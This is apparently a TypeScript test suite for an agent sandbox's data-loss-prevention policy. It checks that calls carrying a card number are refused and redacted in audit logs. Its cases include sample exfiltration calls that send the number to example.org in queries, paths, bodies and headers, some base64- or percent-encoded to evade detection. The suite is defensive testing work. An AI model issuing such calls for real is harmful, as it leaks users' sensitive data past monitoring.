/** Rules that look for data, in front of every call that carries some out. */
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import type { KernelSpace, PolicyDocument } from '../src/index.ts'
import { ask, boot, entriesOf, policyOf, refusalOf, tempFolder } from './support/kernel.ts'

const card = '4111 1111 1111 1111'
const policy: PolicyDocument = policyOf([
  { id: 'all', effect: 'permit', action: '*' },
  { id: 'no-cards', effect: 'forbid', action: '*', contains: ['card'] },
])
const tools = { t: { description: 'a tool', parameters: { type: 'object' }, execute: () => 'done' } }

/** In a program, what it sends is put together, since a program with a card number is not even a child. */
const held = '["4111", "1111", "1111", "1111"].join(" ")'
const packed = Buffer.from(`card: ${card}`).toString('base64')

/** Everything that is on record. */
const textsIn = (dir: string): string =>
  readdirSync(dir, { recursive: true, encoding: 'utf8' })
    .filter((it) => it.endsWith('.jsonl'))
    .map((it) => readFileSync(join(dir, it), 'utf8'))
    .join('\n')

const calls: readonly (readonly [what: string, call: string])[] = [
  ['a tool’s argument', `tools.t({ a: [{ b: 'x ' + card }] })`],
  ['a key of it', `tools.t({ [card]: 1 })`],
  ['a number of it', `tools.t({ a: Number(card.replaceAll(' ', '')) })`],
  ['a part of it in base64', `tools.t({ a: ${JSON.stringify(packed)} })`],
  ['a part of it in percent-encoding', `tools.t({ a: encodeURIComponent(card) })`],
  ['a query', `fetch('https://example.org/?c=' + encodeURIComponent(card))`],
  ['a path', `fetch('https://example.org/' + card.replaceAll(' ', ''))`],
  ['a body', `fetch('https://example.org/', { method: 'POST', body: 'c=' + card })`],
  [
    'a body of bytes',
    `sys('net.fetch', { url: 'https://example.org/', method: 'POST', base64: ${JSON.stringify(packed)} })`,
  ],
  ['a header', `fetch('https://example.org/', { headers: { 'x-note': card } })`],
  ['a text that is written', `fs.write('/tmp/a', card)`],
  ['a text that is appended', `fs.append('/tmp/a', card)`],
  ['bytes that are written', `sys('fs.write', { path: '/tmp/a', base64: ${JSON.stringify(packed)} })`],
  ['the name of a file', `fs.stat('/tmp/' + card)`],
  ['a message', `ipc.send('desk', { a: card })`],
  ['arguments of a child', `sys('proc.spawn', { source: 'export default 1', args: [card] })`],
  ['the program of a child', `sys('proc.spawn', { source: 'export default "' + card + '"' })`],
  ['bytes that are no text', `fs.write('/tmp/a', new Uint8Array([0xff, 0xfe]))`],
]

describe('refused is', () => {
  test.each(calls)('%s', async (_what, call) => {
    const kernel = boot({ policy, tools })
    expect(await ask(kernel, `const card = ${held}\nreturn ${refusalOf(call)}`)).toMatch(
      /^EPERM: .* forbidden by rule `no-cards` .*since it holds, or may hold, data of the kind card/,
    )
  })
})

test('the same calls pass where they hold none', async () => {
  const kernel = boot({ policy, tools })
  const passing = calls.filter(
    ([, call]) => /tools|write|append|args: \[card\]/.test(call) && !/base64|0xff|packed|Y2Fy/.test(call),
  )
  for (const [, call] of passing)
    expect(await ask(kernel, `const card = '1234'\nreturn ${refusalOf(call)}`)).toBe('ok')
  expect(passing.length).toBeGreaterThan(5)
})

describe('of a call that was refused for what it holds', () => {
  async function refused(call: string): Promise<{ kernel: KernelSpace; written: string }> {
    const dir = tempFolder()
    const kernel = boot({ policy, tools, evidence: { dir } })
    await ask(kernel, `const card = ${held}\nreturn ${refusalOf(call)}`)
    expect(kernel.evidence.verify()).toMatchObject({ ok: true, problems: [] })
    await kernel.shutdown()
    return { kernel, written: textsIn(dir) }
  }

  test('nothing is kept but a digest', async () => {
    const { written } = await refused('tools.t({ note: "pay " + card })')
    expect(written).toContain('"kind":"refusal"')
    expect(written).not.toContain(card)
  })

  test('a URL is on record without it', async () => {
    const { written } = await refused(`fetch('https://example.org/?c=' + card.replaceAll(' ', ''))`)
    expect(written).toContain('https://example.org/?c=[redacted card]')
    expect(written).not.toContain('4111111111111111')
  })

  test('observers and the end of the process say it without it', async () => {
    const kernel = boot({ policy, tools })
    const seen: unknown[] = []
    kernel.on('decision', (event) => seen.push(event))
    kernel.on('syscall', (event) => seen.push(event))
    const exit = await kernel.spawn({
      source: `export default async () => { const card = ${held}; await fetch('https://example.org/?c=' + card.replaceAll(' ', '')) }`,
    }).exit
    expect(exit.status).toBe('failed')
    expect(JSON.stringify(seen)).toContain('[redacted card]')
    expect(JSON.stringify(seen)).not.toContain('4111111111111111')
    expect(JSON.stringify(entriesOf(kernel, 'refusal'))).not.toContain('4111111111111111')
  })
})

test('a policy of an agent’s own may narrow whatever the kernel’s is', async () => {
  const kernel = boot({ tools })
  const own = policyOf([{ id: 'no-cards', effect: 'forbid', action: '*', contains: ['card'] }], {
    name: 'own',
    extends: '*',
  })
  const body = `const card = ${held}\nreturn [${refusalOf('tools.t({ a: card })')}, ${refusalOf('tools.t({ a: 1 })')}]`
  expect(await ask(kernel, body, { policy: own })).toEqual([expect.stringContaining('`no-cards`'), 'ok'])
  await expect(kernel.reload(own)).rejects.toThrow(/nothing that is enforced does/)
})

describe('what an agent gives to its child keeps nothing out of the record', () => {
  const hide: PolicyDocument = policyOf(
    [
      { id: 'all', effect: 'permit', action: '*' },
      { id: 'hide', effect: 'forbid', action: '*', contains: ['email'] },
    ],
    { name: 'hide' },
  )
  const address = ['me', 'example.org'].join('@')
  const tries = `export default () => tools.t({ to: ['me', 'example.org'].join('@') }).catch(({ code }) => code)`
  const spawn = (own: unknown): string =>
    `return (await proc.wait((await proc.spawn(${JSON.stringify(tries)}, { policy: ${JSON.stringify(own)} })).pid)).value`

  async function written(rules: PolicyDocument, own: unknown): Promise<string> {
    const dir = tempFolder()
    const kernel = boot({ tools, policy: rules, evidence: { dir } })
    expect(await ask(kernel, spawn(own))).toBe('EPERM')
    await kernel.shutdown()
    return textsIn(dir)
  }

  test.each<readonly [what: string, own: unknown]>([
    ['a document', hide],
    ['a preset', ['permissive', 'no-pii']],
  ])('%s', async (_what, own) => {
    // Refused by the child's own policy alone, and by both.
    for (const effect of ['permit', 'forbid'] as const) {
      const rules = policyOf([
        { id: 'all', effect: 'permit', action: '*' },
        { id: 'tools', effect, action: 'tool.call' },
      ])
      expect(await written(rules, own)).toContain(address)
    }
  })

  test('and what the application’s own policy looks for stays out of it, whatever the child brings', async () => {
    expect(await written(hide, ['permissive', 'no-pii'])).not.toContain(address)
  })
})
